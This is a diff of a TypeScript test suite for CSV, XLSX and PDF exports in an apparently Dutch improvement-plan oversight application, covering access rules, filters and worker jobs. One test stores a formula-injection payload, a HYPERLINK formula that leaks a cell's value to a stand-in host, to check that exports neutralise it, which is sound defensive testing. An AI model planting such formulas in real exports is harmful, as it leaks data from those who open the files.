@@ -29,12 +29,34 @@ describe('exports', () => {
   };
   const GRADES = ['FULLY', 'MOSTLY', 'PARTLY', 'NOT_IMPLEMENTED', 'NO_LONGER_RELEVANT'];
   const PLAN_HEADERS_NL = [
-    'Onderzoek', 'Status onderzoek', 'Publicatiedatum', 'Einde verbetertraject', 'Organisatie', 'Soort organisatie', 'Status verbeterplan',
-    'Uiterste datum plan', 'Oorspronkelijke datum plan', 'Plan te laat', 'Maatregelen', 'Maatregelen afgerond', 'Maatregelen geannuleerd',
-    'Maatregelen te laat', 'Status interne audit', 'Uiterste datum audit', 'Audit te laat', 'Volledig geïmplementeerd',
-    'Grotendeels geïmplementeerd', 'Gedeeltelijk geïmplementeerd', 'Niet geïmplementeerd', 'Niet meer relevant',
+    'Onderzoek',
+    'Status onderzoek',
+    'Publicatiedatum',
+    'Einde verbetertraject',
+    'Organisatie',
+    'Soort organisatie',
+    'Status verbeterplan',
+    'Uiterste datum plan',
+    'Oorspronkelijke datum plan',
+    'Plan te laat',
+    'Maatregelen',
+    'Maatregelen afgerond',
+    'Maatregelen geannuleerd',
+    'Maatregelen te laat',
+    'Status interne audit',
+    'Uiterste datum audit',
+    'Audit te laat',
+    'Volledig geïmplementeerd',
+    'Grotendeels geïmplementeerd',
+    'Gedeeltelijk geïmplementeerd',
+    'Niet geïmplementeerd',
+    'Niet meer relevant',
+    'Handhavingsmaatregelen',
+    'Huidige handhavingsstap',
   ];
-  const PLAN_FIELDS = `organisation { name } planStatus planDueDate planOriginalDueDate planOverdue measuresTotal measuresCompleted measuresCancelled measuresLate auditStatus auditDueDate auditOverdue grades { grade count }`;
+  const PLAN_FIELDS =
+    `organisation { name } enforcementCount enforcementType planStatus planDueDate planOriginalDueDate planOverdue measuresTotal ` +
+    `measuresCompleted measuresCancelled measuresLate auditStatus auditDueDate auditOverdue grades { grade count }`;
 
   beforeAll(async () => {
     t = await TestApp.start();
@@ -49,7 +71,8 @@ describe('exports', () => {
   const EXPORT = `id view format status filename byteSize rowCount createdAt finishedAt error downloadUrl`;
 
   async function requestExport(email: string, input: Record<string, unknown>) {
-    return (await t.ok(token(email), `mutation($input: RequestExportInput!) { requestExport(input: $input) { ${EXPORT} } }`, { input })).requestExport;
+    return (await t.ok(token(email), `mutation($input: RequestExportInput!) { requestExport(input: $input) { ${EXPORT} } }`, { input }))
+      .requestExport;
   }
 
   /** Polls the export query until the worker is done with it. */
@@ -85,7 +108,9 @@ describe('exports', () => {
     expect(done.downloadUrl).toBe(`/exports/${done.id}/download`);
     const res = await download(done.downloadUrl, token(email));
     expect(res.status).toBe(200);
-    expect(res.headers['content-disposition']).toBe(`attachment; filename="${done.filename}"; filename*=UTF-8''${encodeURIComponent(done.filename)}`);
+    expect(res.headers['content-disposition']).toBe(
+      `attachment; filename="${done.filename}"; filename*=UTF-8''${encodeURIComponent(done.filename)}`,
+    );
     expect(res.body.length).toBe(done.byteSize);
     return { export: done, body: res.body as Buffer, contentType: res.headers['content-type'] as string };
   }
@@ -95,7 +120,10 @@ describe('exports', () => {
   const gradeCounts = (p: any) => GRADES.map((g) => p.grades.find((x: any) => x.grade === g)?.count ?? 0);
 
   async function municipalityPlans(email: string) {
-    const data = await t.ok(token(email), `{ municipalityOverview { investigations { title publicationDate trajectoryEndDate plans { ${PLAN_FIELDS} } } } }`);
+    const data = await t.ok(
+      token(email),
+      `{ municipalityOverview { investigations { title publicationDate trajectoryEndDate plans { ${PLAN_FIELDS} } } } }`,
+    );
     return data.municipalityOverview.investigations.flatMap((i: any) => i.plans.map((p: any) => ({ ...p, investigation: i })));
   }
 
@@ -131,6 +159,8 @@ describe('exports', () => {
         p.auditDueDate ?? '',
         yesNo(p.auditOverdue),
         ...gradeCounts(p).map(String),
+        String(p.enforcementCount),
+        p.enforcementType ? expect.any(String) : '',
       ]),
     );
     // The demo's Heerlen case: one plan sent back for revision, one submitted, two still drafts.
@@ -175,8 +205,19 @@ describe('exports', () => {
     const { body } = await exportFile(INSPECTOR, { view: 'PORTFOLIO', format: 'CSV', portfolioFilter: { late: true } });
     const [header, ...rows] = csvRows(body);
     expect(header).toEqual(PLAN_HEADERS_NL);
-    const portfolio = await t.ok(token(INSPECTOR), `{ inspectoratePortfolio(filter: { late: true }) { investigations { title plans { ${PLAN_FIELDS} } } } }`);
-    const expected = portfolio.inspectoratePortfolio.investigations.flatMap((i: any) => i.plans.map((p: any) => [i.title, p.organisation.name, PLAN_STATUS_NL[p.planStatus], String(p.measuresTotal), String(p.measuresLate)]));
+    const portfolio = await t.ok(
+      token(INSPECTOR),
+      `{ inspectoratePortfolio(filter: { late: true }) { investigations { title plans { ${PLAN_FIELDS} } } } }`,
+    );
+    const expected = portfolio.inspectoratePortfolio.investigations.flatMap((i: any) =>
+      i.plans.map((p: any) => [
+        i.title,
+        p.organisation.name,
+        PLAN_STATUS_NL[p.planStatus],
+        String(p.measuresTotal),
+        String(p.measuresLate),
+      ]),
+    );
     expect(expected.length).toBeGreaterThan(0);
     expect(rows.map((r) => [r[0], r[4], r[6], r[10], r[13]])).toEqual(expected);
     expect(new Set(rows.map((r) => r[0]))).toEqual(new Set(['Casus Groningen 2015']));
@@ -186,7 +227,15 @@ describe('exports', () => {
     const workbook = new ExcelJS.Workbook();
     await workbook.xlsx.load(english.body as any);
     const sheet = workbook.worksheets[0];
-    expect((sheet.getRow(1).values as unknown[]).slice(1, 8)).toEqual(['Investigation', 'Investigation status', 'Publication date', 'End of trajectory', 'Organisation', 'Organisation kind', 'Plan status']);
+    expect((sheet.getRow(1).values as unknown[]).slice(1, 8)).toEqual([
+      'Investigation',
+      'Investigation status',
+      'Publication date',
+      'End of trajectory',
+      'Organisation',
+      'Organisation kind',
+      'Plan status',
+    ]);
     // JenV takes part in the Heerlen case only: exactly the rows that inspector may see.
     const seen = await t.ok(token(INSPECTOR_EN), `{ inspectoratePortfolio { investigations { title plans { planStatus } } } }`);
     const titles = seen.inspectoratePortfolio.investigations.flatMap((i: any) => i.plans.map(() => i.title));
@@ -195,9 +244,16 @@ describe('exports', () => {
   });
 
   it('makes a Dutch PDF progress report of an investigation, with plan statuses and no personal data', async () => {
-    const investigations = await t.ok(token(REVIEWER), `{ investigations(first: 10) { nodes { id title plans { status organisation { name } } } } }`);
+    const investigations = await t.ok(
+      token(REVIEWER),
+      `{ investigations(first: 10) { nodes { id title plans { status organisation { name } } } } }`,
+    );
     const heerlen = investigations.investigations.nodes.find((i: any) => i.title === 'Casus Heerlen 2015');
-    const { export: e, body, contentType } = await exportFile(REVIEWER, { view: 'INVESTIGATION_PROGRESS', format: 'PDF', investigationId: heerlen.id });
+    const {
+      export: e,
+      body,
+      contentType,
+    } = await exportFile(REVIEWER, { view: 'INVESTIGATION_PROGRESS', format: 'PDF', investigationId: heerlen.id });
     expect(contentType).toBe('application/pdf');
     expect(body.subarray(0, 5).toString('latin1')).toBe('%PDF-');
     expect(e.filename).toBe('voortgangsrapportage-casus-heerlen-2015-2026-11-22.pdf');
@@ -223,12 +279,16 @@ describe('exports', () => {
   });
 
   it('gives an inspector the progress report of an accepted case, with audits and measures', async () => {
-    const investigations = await t.ok(token(INSPECTOR), `{ investigations(first: 10) { nodes { id title plans { status organisation { name } } } } }`);
+    const investigations = await t.ok(
+      token(INSPECTOR),
+      `{ investigations(first: 10) { nodes { id title plans { status organisation { name } } } } }`,
+    );
     const groningen = investigations.investigations.nodes.find((i: any) => i.title === 'Casus Groningen 2015');
     const { body } = await exportFile(INSPECTOR, { view: 'INVESTIGATION_PROGRESS', format: 'PDF', investigationId: groningen.id });
     const flat = (await pdfText(body)).replace(/\s+/g, ' ');
     expect(flat).toContain('Casus Groningen 2015');
-    for (const plan of groningen.plans) expect(flat).toContain(`${plan.organisation.name} Status verbeterplan: ${PLAN_STATUS_NL[plan.status]}`);
+    for (const plan of groningen.plans)
+      expect(flat).toContain(`${plan.organisation.name} Status verbeterplan: ${PLAN_STATUS_NL[plan.status]}`);
     expect(flat).toContain('Interne audit:');
     expect(flat).toMatch(/Maatregelen: \d+ van \d+ afgerond, \d+ te laat/);
   });
@@ -243,13 +303,17 @@ describe('exports', () => {
     expect((await download(mine.export.downloadUrl, null)).status).toBe(401);
     expect((await download(mine.export.downloadUrl, 'not-a-token')).status).toBe(401);
     expect((await download('/exports/not-a-uuid/download', token(REVIEWER))).status).toBe(404);
-    expect(codes(await t.gql(token(INSPECTOR), `query($id: ID!) { export(id: $id) { id } }`, { id: mine.export.id }))).toEqual(['NOT_FOUND']);
+    expect(codes(await t.gql(token(INSPECTOR), `query($id: ID!) { export(id: $id) { id } }`, { id: mine.export.id }))).toEqual([
+      'NOT_FOUND',
+    ]);
 
     // Row-level security, under the code's own checks: another user's transaction does not see the row at all.
     const inspector = (await t.ok(token(INSPECTOR), `{ me { id role organisation { id } } }`)).me;
-    const seen = await t.get(Database).transaction({ userId: inspector.id, role: inspector.role, organisationId: inspector.organisation.id }, ({ em }) =>
-      em.query(`SELECT count(*)::int AS n FROM exports WHERE id = $1`, [mine.export.id]),
-    );
+    const seen = await t
+      .get(Database)
+      .transaction({ userId: inspector.id, role: inspector.role, organisationId: inspector.organisation.id }, ({ em }) =>
+        em.query(`SELECT count(*)::int AS n FROM exports WHERE id = $1`, [mine.export.id]),
+      );
     expect(seen).toEqual([{ n: 0 }]);
 
     const listed = await t.ok(token(REVIEWER), `{ myExports(first: 100) { id status } }`);
@@ -261,7 +325,9 @@ describe('exports', () => {
   it('refuses what the user may not see, and view/format combinations that do not exist', async () => {
     const hattem = (await t.ok(token('toezicht.hattem@opvolging.demo'), `{ me { organisation { id } } }`)).me.organisation.id;
     const mutation = `mutation($input: RequestExportInput!) { requestExport(input: $input) { id } }`;
-    expect(codes(await t.gql(token(REVIEWER), mutation, { input: { view: 'MUNICIPALITY_OVERVIEW', format: 'CSV', municipalityId: hattem } }))).toEqual(['NOT_FOUND']);
+    expect(
+      codes(await t.gql(token(REVIEWER), mutation, { input: { view: 'MUNICIPALITY_OVERVIEW', format: 'CSV', municipalityId: hattem } })),
+    ).toEqual(['NOT_FOUND']);
     expect(codes(await t.gql(token(MEMBER), mutation, { input: { view: 'PORTFOLIO', format: 'XLSX' } }))).toEqual(['FORBIDDEN']);
 
     const inspectorNoMunicipality = await t.gql(token(INSPECTOR), mutation, { input: { view: 'MUNICIPALITY_OVERVIEW', format: 'CSV' } });
@@ -273,16 +339,25 @@ describe('exports', () => {
     expect(fieldPaths(pdfOfList)).toEqual(['input.format']);
     const csvOfReport = await t.gql(token(INSPECTOR), mutation, { input: { view: 'INVESTIGATION_PROGRESS', format: 'CSV' } });
     expect(fieldPaths(csvOfReport)).toEqual(['input.format', 'input.investigationId']);
-    const wrongFilter = await t.gql(token(INSPECTOR), mutation, { input: { view: 'DEADLINES', format: 'CSV', measureFilter: { overdue: true } } });
+    const wrongFilter = await t.gql(token(INSPECTOR), mutation, {
+      input: { view: 'DEADLINES', format: 'CSV', measureFilter: { overdue: true } },
+    });
     expect(fieldPaths(wrongFilter)).toEqual(['input.measureFilter']);
-    const badFilter = await t.gql(token(INSPECTOR), mutation, { input: { view: 'MEASURES', format: 'CSV', measureFilter: { planId: 'nope' } } });
+    const badFilter = await t.gql(token(INSPECTOR), mutation, {
+      input: { view: 'MEASURES', format: 'CSV', measureFilter: { planId: 'nope' } },
+    });
     expect(codes(badFilter)).toEqual(['BAD_USER_INPUT']);
     expect(fieldPaths(badFilter)).toEqual(['input.measureFilter.planId']);
 
     // Another municipality's investigation is not there for this reviewer.
-    const other = (await t.ok(token('toezicht.hattem@opvolging.demo'), `{ investigations(first: 10) { nodes { id } } }`)).investigations.nodes[0].id;
-    expect(codes(await t.gql(token(REVIEWER), mutation, { input: { view: 'INVESTIGATION_PROGRESS', format: 'PDF', investigationId: other } }))).toEqual(['NOT_FOUND']);
-    expect(codes(await t.gql(token('beheer@opvolging.demo'), mutation, { input: { view: 'THEMES', format: 'CSV' } }))).toEqual(['FORBIDDEN']);
+    const other = (await t.ok(token('toezicht.hattem@opvolging.demo'), `{ investigations(first: 10) { nodes { id } } }`)).investigations
+      .nodes[0].id;
+    expect(
+      codes(await t.gql(token(REVIEWER), mutation, { input: { view: 'INVESTIGATION_PROGRESS', format: 'PDF', investigationId: other } })),
+    ).toEqual(['NOT_FOUND']);
+    expect(codes(await t.gql(token('beheer@opvolging.demo'), mutation, { input: { view: 'THEMES', format: 'CSV' } }))).toEqual([
+      'FORBIDDEN',
+    ]);
   });
 
   it('neutralises formulas in CSV cells and keeps them plain text in XLSX', async () => {
@@ -292,7 +367,14 @@ describe('exports', () => {
     const plan = plans.improvementPlans.nodes[0];
     const formula = '=HYPERLINK("https://example.test/?leak="&A1;"klik")';
     await t.ok(member, `mutation($input: AddMeasureInput!) { addMeasure(input: $input) { id } }`, {
-      input: { planId: plan.id, description: formula, successIndicator: '+31 procent minder meldingen', ownerId: me.me.id, dueDate: '2027-03-01', pointIds: [plan.investigation.improvementPoints[0].id] },
+      input: {
+        planId: plan.id,
+        description: formula,
+        successIndicator: '+31 procent minder meldingen',
+        ownerId: me.me.id,
+        dueDate: '2027-03-01',
+        pointIds: [plan.investigation.improvementPoints[0].id],
+      },
     });
 
     const csv = await exportFile(MEMBER, { view: 'MEASURES', format: 'CSV', measureFilter: { planId: plan.id } });
@@ -326,9 +408,14 @@ describe('exports', () => {
   it('exports deadlines and improvement points as filtered, matching the GraphQL lists', async () => {
     const { body } = await exportFile(INSPECTOR, { view: 'DEADLINES', format: 'CSV', deadlineFilter: { overdue: true } });
     const [, ...rows] = csvRows(body);
-    const listed = await t.ok(token(INSPECTOR), `{ deadlines(first: 100, filter: { overdue: true }) { totalCount nodes { dueDate daysLeft overdue } } }`);
+    const listed = await t.ok(
+      token(INSPECTOR),
+      `{ deadlines(first: 100, filter: { overdue: true }) { totalCount nodes { dueDate daysLeft overdue } } }`,
+    );
     expect(rows.length).toBe(listed.deadlines.totalCount);
-    expect(rows.map((r) => [r[4], r[6], Number(r[7])])).toEqual(listed.deadlines.nodes.map((d: any) => [d.dueDate, yesNo(d.overdue), d.daysLeft]));
+    expect(rows.map((r) => [r[4], r[6], Number(r[7])])).toEqual(
+      listed.deadlines.nodes.map((d: any) => [d.dueDate, yesNo(d.overdue), d.daysLeft]),
+    );
 
     const points = await exportFile(REVIEWER, { view: 'IMPROVEMENT_POINTS', format: 'XLSX', improvementPointFilter: { collective: true } });
     const workbook = new ExcelJS.Workbook();
@@ -352,7 +439,10 @@ describe('exports', () => {
     const db = t.get(Database);
     const claim = (minutesAgo: number) =>
       db.transaction(null, ({ em }) =>
-        em.query(`UPDATE exports SET status = 'RUNNING', file = NULL, started_at = $2::timestamptz - make_interval(mins => $3) WHERE id = $1`, [first.export.id, t.clock.now(), minutesAgo]),
+        em.query(
+          `UPDATE exports SET status = 'RUNNING', file = NULL, started_at = $2::timestamptz - make_interval(mins => $3) WHERE id = $1`,
+          [first.export.id, t.clock.now(), minutesAgo],
+        ),
       );
     await claim(1);
     await expect(generator.run(first.export.id)).rejects.toThrow(ExportBusy);
@@ -371,7 +461,11 @@ describe('exports', () => {
     const me = await t.ok(token(REVIEWER), `{ me { id } }`);
     // As if the job was lost: a waiting row that no job refers to.
     const [row] = await db.transaction(null, ({ em }) =>
-      em.query(`INSERT INTO exports (user_id, view, format, params, status, created_at) VALUES ($1, 'MUNICIPALITY_OVERVIEW', 'CSV', '{}', 'QUEUED', now() - interval '1 hour') RETURNING id`, [me.me.id]),
+      em.query(
+        `INSERT INTO exports (user_id, view, format, params, status, created_at) VALUES ($1, 'MUNICIPALITY_OVERVIEW', 'CSV', '{}', ` +
+          `'QUEUED', now() - interval '1 hour') RETURNING id`,
+        [me.me.id],
+      ),
     );
     expect(await t.worker!.get(ExportsService).requeueWaiting(60)).toBeGreaterThanOrEqual(1);
     expect((await waitFor(REVIEWER, row.id)).status).toBe('DONE');
@@ -379,5 +473,11 @@ describe('exports', () => {
     const removed = await t.worker!.get(RetentionService).run();
     expect(removed.exports).toBeGreaterThanOrEqual(1);
     expect(codes(await t.gql(token(REVIEWER), `query($id: ID!) { export(id: $id) { id } }`, { id: row.id }))).toEqual(['NOT_FOUND']);
+  });
+
+  it('counts the exports the worker made, and their duration, on its /metrics', async () => {
+    const metrics = (await request(t.worker!.getHttpServer()).get('/metrics').expect(200)).text;
+    expect(metrics).toMatch(/^opvolging_exports_total\{outcome="done"\} [1-9]/m);
+    expect(metrics).toMatch(/^opvolging_export_duration_seconds_count [1-9]/m);
   });
 });
